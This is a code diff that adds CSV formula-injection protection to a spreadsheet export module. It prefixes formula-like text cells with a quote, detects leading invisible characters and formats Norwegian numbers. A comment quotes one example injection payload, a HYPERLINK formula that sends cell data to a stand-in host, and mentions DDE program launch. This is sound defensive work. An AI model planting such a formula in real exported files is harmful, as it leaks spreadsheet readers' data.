@@ -83,8 +83,74 @@ function splitRecords(text: string, separator: string) {
   return records;
 }
 
-/** Quotes a cell when it contains the separator, a quote or a line break. */
-export function csvCell(value: string | number, separator = ';'): string {
-  const s = String(value);
-  return /["\r\n]/.test(s) || s.includes(separator) ? `"${s.replace(/"/g, '""')}"` : s;
+/*
+ * Writing cells for files a spreadsheet opens (the /data/ CSVs).
+ *
+ * CSV injection (OWASP, "CSV Injection"): Excel, LibreOffice Calc and Google Sheets read a cell
+ * whose first character is `=`, `+`, `-` or `@` as a formula, also after a leading tab or
+ * carriage return, so an editor's title such as `=HYPERLINK("https://x.example/?"&A1;"Klikk")`
+ * would run in a reader's spreadsheet (send data away, or start programs through DDE in old
+ * Excel). Quoting the cell (RFC 4180) does not help: the spreadsheet unquotes it first. OWASP's
+ * advice, followed here: prefix such a cell with a single quote `'`, which the spreadsheet reads
+ * as "this is text", and wrap the cell in double quotes.
+ *
+ * Which cells are text and which are numbers comes from the value's type, never from the
+ * string: a `number` is written as a number (it cannot hold a formula), and every `string` is
+ * text and neutralised when it starts like a formula, even when it looks like a number ("-5" in
+ * a text column becomes `"'-5"`). So a column's type decides, and a negative figure in a numeric
+ * column stays a number.
+ */
+
+/**
+ * First characters that start a formula: the OWASP list (= + - @ tab CR), the NUL the OWASP
+ * ASVS adds, and the full-width forms of = + - @ that East Asian input methods type (Excel
+ * accepts ＝ as the start of a formula in some locales), as a precaution.
+ */
+const FORMULA_START = /^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/;
+
+/**
+ * Leading characters a spreadsheet may skip before it looks for a formula (a cell " =1" is a
+ * formula in LibreOffice with "trim spaces", and a line break first hides it from a reader):
+ * any whitespace, control or invisible formatting character.
+ */
+const LEADING_SKIPPED = /^[\s\p{Cc}\p{Cf}]+/u;
+
+/** Whether a text cell would be read as a formula if written as it is. */
+export function startsFormula(text: string): boolean {
+  return FORMULA_START.test(text) || FORMULA_START.test(text.replace(LEADING_SKIPPED, ''));
+}
+
+/**
+ * A text cell: prefixed with `'` and quoted when it starts like a formula (see above), quoted
+ * when it contains the separator, a quote or a line break, otherwise as it is.
+ */
+export function csvTextCell(value: string, separator = ';'): string {
+  if (startsFormula(value)) return `"'${value.replace(/"/g, '""')}"`;
+  return /["\r\n]/.test(value) || value.includes(separator) ? `"${value.replace(/"/g, '""')}"` : value;
+}
+
+/**
+ * A numeric cell as Norwegian Excel reads a number: decimal comma, the ASCII hyphen-minus for
+ * negatives (never U+2212, which the nb-NO locale of Intl.NumberFormat writes and Excel reads as
+ * text), no thousands separator, at most four decimals, no "-0". Not a finite number: an error,
+ * since NaN or Infinity in a data file is a bug upstream.
+ */
+export function csvNumberCell(value: number): string {
+  if (!Number.isFinite(value)) throw new RangeError(`not a finite number for a CSV cell: ${value}`);
+  return plainNumber.format(value).replace('.', ',');
+}
+
+const plainNumber = new Intl.NumberFormat('en-US', {
+  maximumFractionDigits: 4,
+  useGrouping: false,
+  signDisplay: 'negative',
+});
+
+/**
+ * One cell of a file a spreadsheet opens: a number as a number (csvNumberCell), a string as
+ * text (csvTextCell), null or undefined as an empty cell.
+ */
+export function csvCell(value: string | number | null | undefined, separator = ';'): string {
+  if (value === null || value === undefined) return '';
+  return typeof value === 'number' ? csvNumberCell(value) : csvTextCell(value, separator);
 }
